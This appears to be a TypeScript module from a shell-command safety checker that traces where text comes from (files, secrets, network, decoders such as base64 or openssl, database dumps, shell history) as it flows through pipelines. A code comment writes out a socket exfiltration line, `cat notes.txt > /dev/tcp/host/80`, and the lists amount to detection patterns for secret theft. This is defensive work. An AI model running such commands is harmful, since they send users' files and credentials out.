/** Where text comes from, as it flows from one command into another. */
import { SECRET_ROLES } from './roles.ts';
import type { Start } from './spec.ts';
import type { Effect, Invocation, Taint } from './types.ts';

/** What a send carries: its own taints, and secrets that effects before it read; over a socket, all that the command puts out. */
export function carriedBy(
  each: Effect,
  before: readonly Effect[],
  input: readonly Taint[],
  copied: boolean,
  isSocket: boolean,
): Taint[] {
  const carries = new Set<Taint>(each.carries);
  if (copied) carries.add('secret');
  // `cat notes.txt > /dev/tcp/host/80`
  if (isSocket) for (const taint of putOut(before, input)) carries.add(taint);
  if (before.some((other) => other.action === 'read' && isSecret(other))) carries.add('secret');
  return carries.size === each.carries.length ? each.carries : [...carries];
}

function putOut(effects: readonly Effect[], input: readonly Taint[]): Taint[] {
  const taints = input.filter((taint) => taint === 'file' || taint === 'secret');
  if (
    effects.some(
      ({ action, target }) => action === 'read' && target.kind === 'path' && target.scope !== 'sink',
    )
  )
    taints.push('file');
  if (effects.some(({ action }) => action === 'reveal')) taints.push('secret');
  return taints;
}

function isSecret(each: Effect): boolean {
  const { scope, role } = each.target;
  return scope === 'credentials' || (role !== null && SECRET_ROLES.has(role));
}

const DECODERS: ReadonlySet<string> = new Set([
  'base64',
  'base32',
  'basenc',
  'xxd',
  'uudecode',
  'strings',
  'openssl',
  'gpg',
  'gunzip',
  'zcat',
  'bzcat',
  'xzcat',
  'unxz',
  'bunzip2',
  'zstdcat',
  'lz4cat',
  'rev',
  'tr',
  'iconv',
  'uncompress',
  'brotli',
  'ascii2uni',
  'gzip',
  'xz',
  'bzip2',
  'zstd',
]);

/** Commands of openssl that bring text into the clear; `rand`, `x509` and `dgst` make and show. */
const OPENSSL_DECODES =
  /^(?:enc|base64|aes|des|camellia|aria|bf|cast|rc[245]|seed|sm4|chacha|zlib|brotli|zstd|cms|smime|pkeyutl|rsautl|asn1parse|pkcs)/;
/** Sets of `tr` that make names and lines neater: with them no text becomes another command (`tr '\n' ' '`, `tr A-Z a-z`). */
const PLAIN_SET = /^(?:-[cds]+|(?:\\[nrt0]|\[:\w+:\]|A-Z|a-z|0-9|[- _./:,@"'=+])+)$/;

/** Whether the program may give text that is another one than it was given. */
function decodes(program: string, { argv }: Invocation): boolean {
  if (!DECODERS.has(program)) return false;
  const args = argv.slice(1);
  switch (program) {
    case 'openssl':
      return args[0] === undefined || !/^\w+$/.test(args[0]) || OPENSSL_DECODES.test(args[0]);
    case 'base64':
    case 'base32':
    case 'basenc':
      return args.some((arg) => /^-[a-zA-Z]*[dD]|^--?d|^-?[^-\w/.]/.test(arg));
    case 'tr':
      // A line break that is put in ends a command: `tr , '\n'`.
      return (
        args.length === 0 ||
        !args.every((arg) => PLAIN_SET.test(arg)) ||
        /\\n/.test(args.filter((arg) => !arg.startsWith('-'))[1] ?? '')
      );
    default:
      return true;
  }
}
/** What they print is the content of a database. */
const DUMPS: ReadonlySet<string> = new Set([
  'pg_dump',
  'pg_dumpall',
  'pg_basebackup',
  'mysqldump',
  'mariadb-dump',
  'mongodump',
  'mongoexport',
]);

/** `git diff`, `git show HEAD:a.ts`, `git log -p`: what stands in the project's files. */
function printsFiles({ subcommand, argv }: Invocation): boolean {
  const name = subcommand[0];
  if (name !== 'diff' && name !== 'show' && name !== 'log' && name !== 'format-patch') return false;
  if (name === 'log' && !argv.some((arg) => PATCH.test(arg))) return false;
  return !argv.some((arg) => SUMMARY.test(arg));
}

const PATCH = /^(?:-p|-u|--patch|-L.*|-c|--cc)$/;
const SUMMARY =
  /^(?:-s|--no-patch|--(?:name-only|name-status|stat|shortstat|numstat|dirstat|summary|raw|quiet|exit-code|check)(?:=.*)?)$/;

/** Where a program's output may come from. */
export function outputTaints(
  invocation: Invocation,
  program: string,
  started: readonly Start[],
  input: readonly Taint[],
): readonly Taint[] {
  let taints: readonly Taint[] = NO_TAINTS;
  for (const taint of input) taints = withTaint(taints, taint);
  for (const each of invocation.effects) {
    if (each.action === 'receive') taints = withTaint(taints, 'network');
    else if (each.action === 'reveal') taints = withTaint(taints, 'secret');
    else if (each.action === 'read') {
      taints = withTaint(taints, isSecret(each) ? 'secret' : 'file');
      // Whatever a person, or a page in their browser, copied last.
      if (each.target.value === 'clipboard') taints = withTaint(taints, 'unknown');
    }
  }
  // What a command on another machine prints is as foreign as a download; from a container it is merely not known.
  if (started.length > 0 && started.some((each) => 'remote' in each && each.remote)) {
    const isHost = started.some((each) => 'remote' in each && each.remote?.kind === 'host');
    taints = withTaint(taints, isHost ? 'network' : 'unknown');
  }
  if (decodes(program, invocation) && !readsPackedDump(invocation)) taints = withTaint(taints, 'decoder');
  if (DUMPS.has(program) && invocation.inert === null) taints = withTaint(taints, 'file');
  if (program === 'git' && printsFiles(invocation)) taints = withTaint(taints, 'file');
  // What was typed before, passwords with it.
  if (program === 'history' || program === 'fc') taints = withTaint(taints, 'secret');
  return taints;
}

/** A dump that is packed hides nothing: `zcat x.sql.gz | psql`. */
function readsPackedDump({ effects }: Invocation): boolean {
  return effects.some(
    ({ action, target }) => action === 'read' && /\.(?:sql|dump)\.(?:gz|bz2|xz|zst|lz4)$/.test(target.value),
  );
}

const NO_TAINTS: readonly Taint[] = [];
/** Lists of one: the same for all that have it. */
const ALONE: Readonly<Partial<Record<Taint, readonly Taint[]>>> = {
  file: ['file'],
  network: ['network'],
  secret: ['secret'],
  text: ['text'],
};

function withTaint(taints: readonly Taint[], taint: Taint): readonly Taint[] {
  if (taints.length === 0) return ALONE[taint] ?? [taint];
  return taints.includes(taint) ? taints : [...taints, taint];
}
